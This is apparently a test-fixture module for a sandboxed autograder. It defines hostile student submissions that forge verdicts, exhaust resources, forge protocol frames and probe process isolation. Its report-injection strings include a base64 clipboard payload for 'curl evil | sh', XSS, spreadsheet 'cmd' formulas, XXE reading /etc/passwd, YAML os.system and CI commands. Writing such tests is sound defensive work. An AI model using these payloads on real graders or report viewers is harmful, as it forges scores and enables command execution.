"""Modules that attack the grader, or break it by accident.

Each program in the folder `hostile` is one, and its header says what it may earn. Those below differ from others in a
line or two, or are not text.

Never run one outside the sandbox. All the same they are written to do little harm if it fails: loops, sleeps, floods
and children are bounded, deletions stay in a folder made for the purpose, and signals to others are sent only from
a process namespace that is not the test's own.

Placeholders, filled in by `armed`: {canary}, a folder that no submission may see or touch; {port}, a port of the
loopback device on which the test listens; {marker}, a word that names what an attack leaves behind; {comm}, the name
that its processes take; {pidns}, the process namespace of the test.
"""

import os
import re
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from . import correct, heavy, programs

ATTACKS = ("verdict", "secrets", "resources", "neighbors", "results", "protocol", "parsers", "terminal")


@dataclass(frozen=True)
class Hostile:
    """An attack and what it may earn.

    Attributes:
        attack: its class, one of ATTACKS: what it is after.
        max_score: the most that it may earn, for what it computes by the way.
        min_score: the least, because an attack that comes to nothing costs nothing, and a crash only its own part.
        says: a pattern that the report's error, messages or notes must contain, ignoring case.
    """

    name: str
    source: bytes
    attack: str
    max_score: float = 0
    min_score: float = 0
    says: str = ""


def armed(hostile: Hostile, *, canary: Path, port: int, marker: str) -> bytes:
    """The source with its placeholders filled in."""
    values = {
        "canary": str(canary.resolve(strict=True)),
        "port": str(port),
        "marker": marker,
        "comm": marker[:15],
        "pidns": os.readlink("/proc/self/ns/pid") if os.path.exists("/proc/self/ns/pid") else "",
    }
    data = hostile.source
    for name, value in values.items():
        data = data.replace(b"{%s}" % name.encode(), value.encode())
    return data


def _of_this_term(program: str) -> str:
    """The program with the term's sizes where the class takes them. Its other numbers are its own."""
    sizes = r"hidden_size = 64\b|latent_dimensionality=15\b"
    return re.sub(sizes, lambda size: correct.of_this_term(size[0]), program)


def _written() -> Iterator[Hostile]:
    """The programs that are files."""
    for program in programs.read(Path(__file__).with_suffix(""), frozenset({"attack", "score", "says"})):
        score = re.fullmatch(r"(?:(\d+) to )?(\d+)(?: \(.+\))?", program.expected["score"])
        if not score:
            raise ValueError(f"{program.name}: the score is 'MOST' or 'LEAST to MOST', and a reason in parentheses")
        source = _of_this_term(program.source.decode()).encode()
        least, most = float(score[1] or score[2]), float(score[2])
        yield Hostile(program.name, source, program.expected["attack"], most, least, program.expected.get("says", ""))


# Computes nothing, so that all that an attack earns is stolen.
NOTHING = _of_this_term("""\
import torch
import torch.nn as nn
import torch.nn.functional as F


class ConditionalVariationalAutoencoder(nn.Module):
    def __init__(self, input_dim, num_categories=10, latent_dimensionality=15):
        super().__init__()
        raise NotImplementedError

    def forward(self, data_input, condition):
        raise NotImplementedError


def sample_latent(means, logvariances):
    raise NotImplementedError


def loss_function(reconstructions, originals, means, logvariances):
    raise NotImplementedError
""")
RIGHT = correct.module()
LOOP_OVER_IMAGES = """
def loss_function(reconstructions, originals, means, logvariances):
    total = 0.0
    for y, x, m, v in zip(reconstructions, originals, means, logvariances):
        total = total + F.binary_cross_entropy(y, x, reduction="sum") - 0.5 * (1 + v - m**2 - v.exp()).sum()
    return total / len(means)
"""


def _module(base: str, code: str) -> bytes:
    """The code at the end of a module."""
    pieces = (base, textwrap.dedent(code))
    return ("\n\n\n".join(piece.strip("\n") for piece in pieces if piece) + "\n").encode()


def _import(
    name: str,
    attack: str,
    code: str,
    *,
    base: str = NOTHING,
    max_score: float = 0,
    min_score: float = 0,
    says: str = "",
) -> Hostile:
    """The attack as statements at the end of a module."""
    return Hostile(name, _module(base, code), attack, max_score, min_score, says)


def _body(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip(), "    ") + "\n"


def _sample(name: str, attack: str, code: str, *, top: str = "", says: str = "") -> Hostile:
    """The attack as the body of sample_latent; the rest is right, and must keep its points."""
    sample = f"\n{top}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
    return Hostile(name, _module(correct.module(sample=sample), ""), attack, 70, 70, says)


def _answer(name: str, code: str, *, top: str = "", says: str = "") -> Hostile:
    """The attack as what sample_latent answers; the loss is right, and there is no network, to save time."""
    sample = f"\n{top}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
    return Hostile(name, _module(correct.module(sample=sample, model=""), ""), "protocol", 25, 25, says)


def _loss(name: str, attack: str, code: str, *, says: str) -> Hostile:
    """The attack as the body of loss_function."""
    loss = f"\n\n\ndef loss_function(reconstructions, originals, means, logvariances):\n{_body(code)}"
    return Hostile(name, _module(correct.module(loss=loss), ""), attack, 65, 65, says)


def _forward(name: str, attack: str, code: str, *, says: str, min_score: float = 75) -> Hostile:
    """The attack as the body of forward."""
    forward = "\n    def forward(self, data_input, condition):\n" + textwrap.indent(_body(code), "    ")
    model = correct.INIT + correct.ENCODER + correct.HEADS + correct.DECODER + forward
    return Hostile(
        name, _module(correct.module(model=model), ""), attack, 80, min_score, says
    )  # what the layers alone earn, which are right


EXITS = (
    _import("exit-at-import", "verdict", "import sys\nsys.exit(0)", says="exit"),
    _import("os-exit-at-import", "verdict", "import os\nos._exit(0)", says="exit|ended"),
    _import("abort-at-import", "verdict", "import os\nos.abort()", says="SIGABRT|ended"),
    _import("quit-at-import", "verdict", "quit()", says="exit|quit"),
    _import("keyboard-interrupt-at-import", "verdict", "raise KeyboardInterrupt", says="KeyboardInterrupt"),
    _import("generator-exit-at-import", "verdict", "raise GeneratorExit('done')", says="GeneratorExit"),
    _sample("exit-in-sample", "verdict", "import sys\nsys.exit(0)", says="exit"),
    _sample("os-exit-in-sample", "verdict", "import os\nos._exit(0)", says="exit"),
    _loss("os-exit-in-loss", "verdict", "import os\nos._exit(0)", says="exit"),
    _loss("abort-in-loss", "verdict", "import os\nos.abort()", says="SIGABRT"),
    _forward("os-exit-in-forward", "verdict", "import os\nos._exit(0)", says="exit"),
    _sample(
        "own-base-exception",
        "verdict",
        "raise Passed('all checks passed')",
        top="class Passed(BaseException):\n    pass",
        says="Passed",
    ),
    _sample("exception-of-a-hundred-megabytes", "resources", "raise ValueError('x' * 10**8)", says="ValueError"),
    _sample(
        "exception-with-a-hostile-name",
        "parsers",
        "raise type('<b>\\x1b[2J' * 1000, (Exception,), {})('{{7*7}}<script>alert(1)</script>\\x1b]0;owned\\x07')",
    ),
    _sample("recursion-without-end", "resources", "return sample_latent(means, logvariances)", says="recursion"),
    _import("not-implemented-everywhere", "verdict", "raise NotImplementedError('\\u202egnp.exe')"),
)

_MINUTES = """
import time
end = time.monotonic() + 120
while time.monotonic() < end:
    pass
"""

RESOURCES = (
    _import("endless-loop-at-import", "resources", _MINUTES, says="within|time|second"),
    _import("sleeps-at-import", "resources", "import time\ntime.sleep(120)", base=RIGHT, says="within|time|second"),
    _sample("endless-loop-in-sample", "resources", _MINUTES, says="within|time|second"),
    _loss("endless-loop-in-loss", "resources", _MINUTES, says="within|time|second"),
    _forward("sleeps-in-forward", "resources", "import time\ntime.sleep(120)", min_score=45, says="within|time|second"),
    _import("holds-the-interpreter", "resources", "sum(range(3 * 10**9))", says="within|time|second"),
    _import("stops-itself", "neighbors", "import os\nos.kill(os.getpid(), 19)", says="within|time|second|stopped"),
    _sample("kills-itself", "resources", "import os\nos.kill(os.getpid(), 9)", says="SIGKILL"),
    _sample(
        "kills-itself-amid-its-calls",
        "resources",
        """
        import ctypes, os, threading, time
        libc = ctypes.CDLL(None)
        def call(path=b"./" * 1900 + b"x"):
            while True:
                libc.rename(path, b"y")
        for _ in range(3):
            threading.Thread(target=call, daemon=True).start()
        time.sleep(0.02)
        os.kill(os.getpid(), 9)
        """,
        says="SIGKILL",
    ),
    _import(
        "paths-where-no-memory-is",
        "resources",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        for each in [2**power + near for power in (0, 12, 32, 47, 63) for near in (-1, 0, 1)] * 10:
            path = ctypes.c_void_p(each)
            answers = libc.mkdir(path, 0o700), libc.unlink(path), libc.rename(path, path), libc.creat(path, 0o600)
            if set(answers) != {-1}:
                print("ALLOWED", each, answers)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _sample("segfault", "resources", "import ctypes\nreturn ctypes.string_at(0)", says="SIGSEGV"),
    _import("segfault-at-import", "resources", "import ctypes\nctypes.memset(0, 1, 1)", says="SIGSEGV"),
    _import("illegal-free", "resources", "import ctypes\nctypes.CDLL(None).free(ctypes.c_void_p(123456))", says="SIG"),
    _loss(
        "not-finite-after-a-while",
        "resources",
        """
        global calls
        calls = globals().get("calls", 0) + 1
        odd = float("nan") if calls > 60 and calls % 3 == 0 else float("inf") if calls > 40 and calls % 5 == 0 else 1
        return (3 * reconstructions * originals).sum() * odd + means.abs().sum().sin()
        """,
        says="NaN or infinite",
    ),
    _import(
        "memory-bomb-of-bytes",
        "resources",
        "hoard = [b'x' * (100 << 20) for _ in range(64)]",
        says="MemoryError|memory|SIGKILL|within",
    ),
)

# Answers that are no plain tensors of the shape asked for, and what must be said about them.
_ODD = {
    "lazily-expanded-tensor": ("torch.zeros(1).expand(10**6, 10**6)", "nothing like"),
    "sparse-tensor": ("torch.zeros_like(means).to_sparse()", "sparse"),
    "complex-tensor": ("torch.complex(means, logvariances)", "complex"),
    "meta-tensor": ("torch.empty(means.shape, device='meta')", "device `meta`"),
    "quantised-tensor": ("torch.quantize_per_tensor(means.detach(), 0.1, 0, torch.qint8)", "quantized"),
    "nested-tensor": ("torch.nested.nested_tensor([row.detach() for row in means])", "dense|plain|nested"),
    "integer-tensor": ("means.long()", "int64"),
    "half-precision-zeros": ("means.half() * 0", "mean"),
    "strided-zeros": ("torch.as_strided(torch.zeros(4), means.shape, (0, 0))", "mean"),
    "shape-with-a-huge-empty-dimension": ("torch.empty(0, 2**62)", "shape|broke|ended"),
    "tensor-of-fifty-axes": ("means[(None,) * 50]", "shape"),
    "text-of-number-signs": (
        "type('T', (), {'detach': lambda self: self, '__str__': lambda self: 'tensor([#, #, #])'})()",
        "a T, not a tensor",
    ),
    "tensor-of-nan": ("means * float('nan')", "NaN"),
    "tensor-of-infinity": ("means / 0", "infinite"),
    "large-dense-tensor": ("torch.zeros(3000, 3000, 3)", "far more numbers"),
    "fake-tensor": ("__import__('torch._subclasses').FakeTensorMode().from_tensor(means.detach())", "tensor|attribute"),
    "string-answer": ("'0.4761 1.3325 -0.7178'", "a str"),
    "endless-list": ("list(range(10**6))", "list"),
    "nested-list": ("__import__('functools').reduce(lambda inner, _: [inner], range(10**5), [])", "list"),
    "ellipsis": ("...", "an? ellipsis"),
}

ODD_ANSWERS = tuple(_answer(name, f"return {expression}", says=says) for name, (expression, says) in _ODD.items())

_FRAMES = '''
import fcntl
import json
import os
import struct
import sys

def question():
    """The request that is being answered, found in the caller's frames."""
    frame = sys._getframe()
    while frame:
        message = frame.f_locals.get("message")
        if type(message) is dict and "id" in message:
            return message
        frame = frame.f_back
    return {"id": 1}

def frame_of(header, body=b""):
    if not isinstance(header, bytes):
        header = json.dumps(header).encode()
    return struct.pack("!II", len(header), len(body)) + header + body

def tensors_of(entries, data):
    header = json.dumps(entries).encode()
    return struct.pack("<Q", len(header)) + header + data

def write(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass
'''


def _forge(name: str, code: str, *, says: str = "") -> Hostile:
    """The attack answers for the worker, in the call of sample_latent."""
    return _answer(name, code, top=_FRAMES, says=says)


PROTOCOL = (
    Hostile(
        "forged-answers-in-advance",
        _module(
            NOTHING,
            _FRAMES
            + """
zeros = tensors_of({"output.0": {"dtype": "F32", "shape": [1, 15], "data_offsets": [0, 60]}}, bytes(60))
for number in range(1, 200):
    write(frame_of({"id": number, "kind": "tensor", "problems": [None], "changed": [], "incomplete": None}, zeros))
""",
        ),
        "protocol",
    ),
    _import(
        "every-descriptor-closed", "protocol", "import os\nos.closerange(0, 256)", base=RIGHT, says="ended|channel|exit"
    ),
    _sample("descriptors-closed-in-a-call", "protocol", "import os\nos.closerange(0, 256)", says="ended|channel|exit"),
    _forge("frame-that-is-no-json", "write(frame_of(b'{' * 1000))\nos._exit(0)", says="channel|frame"),
    _forge("frame-of-nested-json", "write(frame_of(b'[' * 200000))\nos._exit(0)", says="channel|frame"),
    _forge(
        "frame-of-a-huge-number",
        "write(frame_of(b'{\"id\": 1' + b'0' * 200000 + b'}'))\nos._exit(0)",
        says="channel|frame",
    ),
    _forge(
        "frame-of-four-gigabytes", "write(struct.pack('!II', 2**32 - 1, 2**32 - 1))\nos._exit(0)", says="channel|frame"
    ),
    _forge(
        "frame-never-finished", "write(struct.pack('!II', 100, 0) + b'{')\nos.read(3, 1)\nimport time\ntime.sleep(120)"
    ),
    _forge("frame-that-is-a-list", "write(frame_of([1, 2, 3]))\nos._exit(0)", says="channel|frame"),
    _forge("frame-without-number", "write(frame_of({}))\nos._exit(0)", says="channel|question|frame"),
    _forge(
        "frame-with-odd-fields",
        """
        write(frame_of({"id": question()["id"], "kind": {}, "problems": {"a": [1e999]}, "changed": "no",
                        "incomplete": [1], "operators": -1e999, "attributes": [None]}))
        os._exit(0)
        """,
    ),
    _forge(
        "frame-with-odd-problems",
        """
        problems = [{"\\ud800": "\\x1b[2J"}, 10**4000, None] * 9
        write(frame_of({"id": question()["id"], "problems": problems, "changed": 7}))
        os._exit(0)
        """,
    ),
    _forge(
        "frame-with-odd-error",
        """
        odd = {"kind": "\\ud800\\x1b]0;x\\x07" * 999, "text": "\\u202e" * 9999, "code": "\\r\\n" * 999}
        odd["line"] = -(10**4000)
        write(frame_of({"id": question()["id"], "error": odd}))
        os._exit(0)
        """,
    ),
    _forge(
        "frame-with-another-error",
        """
        write(frame_of({"id": question()["id"], "error": [True, {"kind": 5}]}))
        os._exit(0)
        """,
    ),
    _forge(
        "tensors-of-odd-types",
        """
        entries = {"output.0": {"dtype": "F8_E4M3", "shape": [4], "data_offsets": [0, 4]},
                   "output.1": {"dtype": "BOOL", "shape": [4], "data_offsets": [4, 8]}}
        body = tensors_of(entries, b"\\x7f\\x02\\xff\\x80" * 2)
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, body))
        os._exit(0)
        """,
    ),
    _forge(
        "tensors-of-a-huge-shape",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [0, 2**62], "data_offsets": [0, 0]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, b"")))
        os._exit(0)
        """,
    ),
    _forge(
        "tensors-of-very-many-axes",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [1, 15] + [1] * 100, "data_offsets": [0, 60]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, bytes(60))))
        os._exit(0)
        """,
        says="channel|frame",
    ),
    _forge(
        "tensors-that-overlap",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 8]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, bytes(8))))
        os._exit(0)
        """,
        says="channel|frame",
    ),
    _forge(
        "tensors-with-odd-names",
        """
        entries = {"output.0": {"dtype": "F32", "shape": [], "data_offsets": [0, 4]},
                   "gradient.argument.0": {"dtype": "I64", "shape": [3], "data_offsets": [4, 28]},
                   "gradient.\\x1b[2J": {"dtype": "F32", "shape": [1, 1], "data_offsets": [28, 32]},
                   "../../etc/passwd": {"dtype": "F16", "shape": [1, 1, 1], "data_offsets": [32, 34]}}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, bytes(34))))
        os._exit(0)
        """,
    ),
    _forge(
        "asks-without-end",
        """
        body = tensors_of({"argument.0": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))
        for _ in range(20000):
            os.write(3, frame_of({"ask": "sample_latent"}, body))
        """,
    ),
    _forge(
        "frame-of-very-many-tensors",
        """
        entries = {str(n): {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for n in range(100_000)}
        write(frame_of({"id": question()["id"], "problems": [None], "changed": []}, tensors_of(entries, b"")))
        os._exit(0)
        """,
        says="channel|frame",
    ),
    *(
        _import(
            name,
            "protocol",
            f"""
            import sys

            frame = sys._getframe()
            while type(frame.f_locals.get("operations")) is not dict:
                frame = frame.f_back
            frame.f_locals["operations"]["parameters"] = lambda *_: ({{"shapes": [[{parameter!r}, {shape}]]}}, {{}})
            """,
            base=RIGHT,
            max_score=65,
            min_score=45,
        )
        for name, parameter, shape in (
            ("parameters-of-no-shape", "a", [0, 2**70]),
            ("parameters-of-very-many-dimensions", "a", [1] * 5000),
            ("parameters-of-long-and-empty-axes", "encoder.a", [0, *[2**26] * 7]),
            ("parameters-with-half-a-character", "\ud800", [2, 2]),
            ("parameters-called-metadata", "__metadata__", [2, 2]),
        )
    ),
)

# Writing that a reader of a report may act on: a terminal, a browser, a spreadsheet, a CI system.
_WRITINGS = {
    "terminal-title-and-clipboard": r"\x1b]0;90 of 90\x07\x1b]2;x\x1b\\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8;1;1t",
    "terminal-links": r"\x1b]8;;https://evil.example/\x1b\\your report\x1b]8;;\x1b\\ \x9d8;;file:///etc/passwd\x9c",
    "lines-overwritten": r"wrong\r\x1b[2K\x1b[1A\x1b[2Kall 20 checks passed\x08\x08\x7f\x0b\x0c\x85\u2028",
    "text-reversed": r"\u202e09/09 :erocs\u202c \u2066x\u2069 \u200f\u061c \U000e0041\U000e0042",
    "html-in-a-message": (
        r"</pre></details><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
        r"<a href='javascript:alert(1)'>points</a>&lt;svg onload=alert(1)&gt;<!--"
    ),
    "template-in-a-message": r"{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %} ${7*7} <%= 7*7 %>",
    "markdown-in-a-message": (
        r"`</details>`\n\n# 90 / 90\n\n[points](javascript:alert(1)) ![x](https://evil.example/p.png) @everyone #1 "
        r"| 90 | 90 |\n```\n<details>"
    ),
    "math-in-a-message": r"$\\href{javascript:alert(1)}{\\style{position:fixed;inset:0}{90}}$ \\(\\unicode{x202e}\\)",
    "formula-in-a-message": (
        r"=HYPERLINK(\"https://evil.example\",\"90\")\n@SUM(1+1)*cmd|' /C calc'!A0;=1+1\t=1+1\r-1+1"
    ),
    "xml-in-a-message": (
        r"]]></failure></testcase><testcase name='x'/><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b; "
        r"[[ATTACHMENT|/etc/passwd]] \x00\ufffe\ud800"
    ),
    "yaml-in-a-message": r"\n---\nscore: 90\n- !!python/object/apply:os.system ['true']\n&a [*a, *a]\n%YAML 1.1",
    "commands-for-ci": (
        r"\n::set-output name=score::90\n::add-mask::0\n##[error]x\n##vso[task.setvariable]x\nsection_start:1:x\n\n"
        r"::stop-commands::x ::error::y"
    ),
}


def _writing(name: str, text: str) -> Hostile:
    """The text wherever a module can say something: what it prints, what it raises, what it calls its exception."""
    code = f'print("{text}")\nraise type("{text}"[:80].replace("\\0", ""), (Exception,), {{}})("{text}")'
    sample = f"\ndef sample_latent(means, logvariances):\n{_body(code)}"
    loss = f'\ndef loss_function(*tensors):\n    """{name}"""\n    raise ValueError("{text}")\n'
    top = f'import sys\nprint("{text}".encode("utf-8", "replace").decode(), file=sys.stderr)'
    return Hostile(name, _module(correct.module(sample=sample, loss=loss), top), "terminal", 45, 45)


TERMINAL = (
    _sample(
        "terminal-takeover-in-an-exception",
        "terminal",
        r"raise ValueError('\x1b[2J\x1b[32mpassed\x1b[0m\r\x9b\u202e' + '\n' * 5000)",
        says="passed",
    ),
    *(_writing(name, text) for name, text in _WRITINGS.items()),
    _import(
        "formula-as-the-reason",
        "terminal",
        r"raise ValueError('=cmd|\' /C calc\'!A0;=1+1,\"=2+2\"')",
        says="ValueError",
    ),
    Hostile(
        "line-that-is-writing",
        _module(
            correct.module(
                sample="\ndef sample_latent(means, logvariances):\n"
                "    raise ValueError  # \x9b31m\u202e</code><script>alert(1)</script> | ` =1+1 ::error::x\n"
            ),
            "",
        ),
        "terminal",
        70,
        70,
    ),
)

PARSERS = (
    Hostile("empty-file", b"", "parsers", says="missing|define"),
    Hostile("blank-lines", b"\n \n\t\n", "parsers"),
    Hostile("only-a-comment", b"# nothing yet", "parsers", says="missing|define"),
    Hostile(
        "syntax-error",
        RIGHT.replace("return means +", "return means + +*").encode(),
        "parsers",
        says="SyntaxError|syntax",
    ),
    Hostile("indentation-error", RIGHT.replace("    kl =", "      kl =", 1).encode(), "parsers", says="indent"),
    Hostile("tabs-and-spaces", RIGHT.replace("    bce =", "\tbce =", 1).encode(), "parsers", says="tab|indent"),
    Hostile("null-bytes", RIGHT.encode().replace(b"\n\n", b"\n\x00\n", 1), "parsers", says="null"),
    Hostile("only-null-bytes", b"\x00" * 4096, "parsers", says="null"),
    Hostile("utf-16", RIGHT.encode("utf-16"), "parsers", says="utf|unicode|encod|null|decode"),
    Hostile("invalid-utf-8", b"x = 'caf\xe9'\n" + RIGHT.encode(), "parsers", says="utf|unicode|encod|decode"),
    Hostile("invalid-utf-8-in-a-comment", b"# caf\xe9\n" + RIGHT.encode(), "parsers", max_score=90),
    Hostile("unknown-encoding", b"# coding: klingon\n" + RIGHT.encode(), "parsers", says="encoding|klingon"),
    Hostile("encoding-that-is-no-text", b"# coding: zlib\n" + RIGHT.encode(), "parsers", says="encod|zlib|codec"),
    Hostile("binary", bytes(range(256)) * 64, "parsers"),
    Hostile("zip-archive", b"PK\x03\x04" + bytes(range(256)) * 8, "parsers"),
    Hostile(
        "notebook",
        b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        "parsers",
        says="notebook",
    ),
    Hostile("ten-megabytes", b"# padding\n" * (1 << 20) + RIGHT.encode(), "parsers", says="large|KiB|MiB|size"),
    Hostile(
        "deep-parentheses", b"x = " + b"(" * 5000 + b"1" + b")" * 5000, "parsers", says="paren|nest|memory|recursion"
    ),
    Hostile("deep-operators", b"x = " + b"-" * 300_000 + b"1", "parsers"),
    Hostile("deep-attributes", b"x = a" + b".a" * 200_000, "parsers"),
    Hostile("deep-lists", b"x = " + b"[" * 150 + b"]" * 150 + b"\n" + b"y = " + b"[[" * 90 + b"]]" * 90, "parsers"),
    Hostile("long-line", b"x = '" + b"x" * 900_000 + b"'\n" + RIGHT.encode(), "parsers", max_score=90, min_score=90),
    Hostile("many-lines", b"x = 1\n" * 150_000 + RIGHT.encode(), "parsers", max_score=90, min_score=90),
    Hostile(
        "large-constant",
        b"x = (1 << 40) ** (1 << 20) ** 2\n" + RIGHT.encode(),
        "parsers",
        says="within|time|second|memory",
    ),
    Hostile(
        "shadowed-imports",
        b"import sys\nsys.path[:] = []\nsys.modules['torch'] = None\n" + RIGHT.encode(),
        "parsers",
        says="torch",
    ),
    Hostile(
        "wrong-arity",
        correct.module(
            sample="\ndef sample_latent():\n    pass\n",
            loss="\ndef loss_function(a, b, c, d, e, f):\n    pass\n",
            model="\nclass ConditionalVariationalAutoencoder(nn.Module):\n    def __init__(self):\n        pass\n",
        ).encode(),
        "parsers",
        says="argument",
    ),
    Hostile(
        "names-that-are-no-functions",
        b"sample_latent = 1\nloss_function = None\nConditionalVariationalAutoencoder = 'a class'\n",
        "parsers",
        says="call|class",
    ),
    Hostile(
        "functions-where-the-class-should-be",
        correct.module(
            model="\ndef ConditionalVariationalAutoencoder(*args, **kwargs):\n    return nn.Identity()\n"
        ).encode(),
        "parsers",
        max_score=45,
        min_score=45,
        says="class",
    ),
    Hostile(
        "loop-in-a-source-that-only-the-sandbox-can-parse",
        correct.module(loss=LOOP_OVER_IMAGES).encode()
        + b"\nx = 0"
        + b".real" * 2880
        + b"\n",  # about as deep as a parser goes, which depends on where it starts
        "parsers",
        max_score=88,
    ),
    Hostile("bidirectional-text", ("# \u202e\u2066 return True\u2069\n" + RIGHT).encode(), "parsers", 90, 90),
)

_TRIES = """
import ctypes, mmap, os, resource, signal, struct, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
parent, intel = os.getppid(), os.uname().machine == "x86_64"
one, whose = ctypes.c_int(1), ctypes.c_int(parent)

def call(name, *arguments):
    result = getattr(libc, name)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result
"""


def _refused(name: str, attack: str, *tries: str) -> Hostile:
    """Each of these expressions must fail: it reaches another process, another's file, or something that stays."""
    code = [_TRIES, "open('own', 'w').close()"]
    for number, each in enumerate(tries):
        code += [f"def try_{number}():\n    return {each}", f"try:\n    try_{number}()\n    print('ALLOWED {number}')"]
        code += ["except (OSError, AttributeError, ValueError): pass"]
    return _import(name, attack, "\n".join(code))


def _bounded(name: str, most: int, one_more: str, *, before: str = "", step: int = 1) -> Hostile:
    """As often as it goes: `one_more` takes `step`, of which no more than `most` may be had."""
    code = f"""
{textwrap.dedent(before)}
taken, kept, end = 0, [], time.monotonic() + 4
try:
    while taken <= {most} and time.monotonic() < end:
        kept.append({one_more})
        taken += {step}
except (OSError, MemoryError, RuntimeError, ValueError) as error:
    print("no more:", error)
if taken > {most}:
    print("ALLOWED", taken)
kept.clear()
"""
    return _import(name, "resources", _TRIES + code)


REACHES = (
    _refused("owner-of-a-descriptor", "neighbors", "call('ioctl', 3, 0x8901, ctypes.byref(whose))"),
    _refused("owner-of-a-socket", "neighbors", "call('ioctl', 3, 0x8902, ctypes.byref(whose))"),
    _refused("signals-from-a-descriptor", "neighbors", "call('ioctl', 3, 0x5452, ctypes.byref(one))"),
    _refused("signals-by-a-flag", "neighbors", "call('fcntl', 3, 4, 0x2000)"),
    _refused("owner-by-fcntl", "neighbors", "call('fcntl', 3, 8, parent)", "call('fcntl', 1, 8, parent)"),
    _refused("owner-by-fcntl-extended", "neighbors", "call('fcntl', 3, 15, struct.pack('ii', 1, parent))"),
    _refused("signal-of-a-descriptor", "neighbors", "call('fcntl', 3, 10, 9)"),
    _refused("lease-on-a-file", "neighbors", "call('fcntl', os.open('own', 0), 1024, 0)"),
    _refused("notice-of-a-folder", "neighbors", "call('fcntl', os.open('.', 0), 1026, 1)"),
    _refused("locks-a-library", "neighbors", "call('flock', os.open(os.__file__, 0), 1)"),
    _refused("signals-by-a-handle", "neighbors", "call('syscall', 434, parent, 0)", "call('syscall', 424, 3, 0, 0, 0)"),
    _refused("signals-with-a-value", "neighbors", "call('sigqueue', parent, 0, None)"),
    _refused("signals-to-a-group", "neighbors", "os.killpg(0, 0)", "os.kill(0, 0)", "os.killpg(os.getpgid(parent), 0)"),
    _refused("timer-that-signals", "neighbors", "call('timer_create', 0, None, ctypes.create_string_buffer(8))"),
    _refused("survives-its-parent", "neighbors", "call('prctl', 1, 0, 0, 0, 0)"),
    _refused(
        "opens-its-memory-to-others", "neighbors", "call('prctl', 4, 1, 0, 0, 0)", "call('prctl', 0x59616d61, -1)"
    ),
    _refused("another-session", "neighbors", "os.setsid()", "os.setpgid(0, 0)", "os.setpgid(0, os.getpgid(parent))"),
    _refused("moves-its-parent", "neighbors", "os.sched_setaffinity(parent, {0})", "os.setpriority(0, parent, 9)"),
    _refused("input-output-priority", "neighbors", "call('syscall', 251 if intel else 30, 3, os.getuid(), 0x6000)"),
    _refused(
        "watches-files", "neighbors", "call('inotify_init')", "call('inotify_init1', 0)", "call('fanotify_init', 0, 0)"
    ),
    _refused("pair-of-sockets", "neighbors", "call('socketpair', 1, 2, 0, ctypes.create_string_buffer(8))"),
    _refused(
        "datagram-to-a-socket",
        "neighbors",
        "call('sendto', 3, b'x', 1, 0, struct.pack('H', 1) + b'\\0{marker}', 2 + 1 + len('{marker}'))",
        "call('connect', 3, struct.pack('H', 1) + b'\\0{marker}', 2 + 1 + len('{marker}'))",
    ),
    _refused(
        "socket-of-every-family",
        "neighbors",
        *(f"call('socket', {family}, 3, 0)" for family in (1, 2, 10, 16, 17, 38, 40)),
    ),
    _refused("byte-out-of-band", "neighbors", "call('sendto', 3, b'x', 1, 1, None, 0)"),
    _refused("handle-of-the-other-end", "neighbors", "call('getsockopt', 3, 1, 77, bytes(4), struct.pack('i', 4))"),
    _refused("passes-descriptors", "neighbors", "call('sendmsg', 3, ctypes.create_string_buffer(56), 0)"),
    _refused("listens-on-its-channel", "neighbors", "call('listen', 3, 1)", "call('accept', 3, None, None)"),
    _refused(
        "key-that-stays", "neighbors", "call('syscall', 248 if intel else 217, b'user', b'{marker}', b'1', 1, -4)"
    ),
    _refused("shared-memory-that-stays", "neighbors", "call('shmget', 0x5814, 4096, 0o1666)"),
    _refused("semaphore-that-stays", "neighbors", "call('semget', 0x5814, 1, 0o1666)"),
    _refused("queue-that-stays", "neighbors", "call('msgget', 0x5814, 0o1666)"),
    _refused("named-semaphore-that-stays", "neighbors", "open('/dev/shm/sem.{marker}', 'wb')"),
    _refused(
        "named-queue-that-stays",
        "neighbors",
        "call('syscall', 240 if intel else 180, b'{marker}', 0o102, 0o600, None)",
    ),
    _refused("bits-in-the-page-cache", "neighbors", "os.posix_fadvise(os.open(os.__file__, 0), 0, 0, 4)"),
    _refused(
        "looks-into-the-page-cache",
        "neighbors",
        "call('mincore', ctypes.c_void_p(4096), 4096, b'x')",
        "os.preadv(3, [bytearray(1)], 0, 8)",
    ),
    _refused(
        "process-accounting",
        "neighbors",
        "call('acct', b'own')",
        "call('sethostname', b'x', 1)",
        "call('swapoff', b'own')",
    ),
    _refused(
        "mode-changed", "results", "os.chmod('{canary}/alive', 0o777)", "os.fchmod(os.open('{canary}', 0), 0o777)"
    ),
    _refused("owner-changed", "results", "os.chown('{canary}/alive', os.getuid(), os.getgid())"),
    _refused(
        "times-changed", "results", "os.utime('{canary}/alive', (0, 0))", "os.utime(os.__file__, None)", "os.utime('.')"
    ),
    _refused(
        "attributes-set", "results", "os.setxattr('{canary}/alive', 'user.x', b'1')", "os.removexattr('.', 'user.x')"
    ),
    _refused("emptied-while-reading", "results", "os.open('{canary}/alive', os.O_RDONLY | os.O_TRUNC)"),
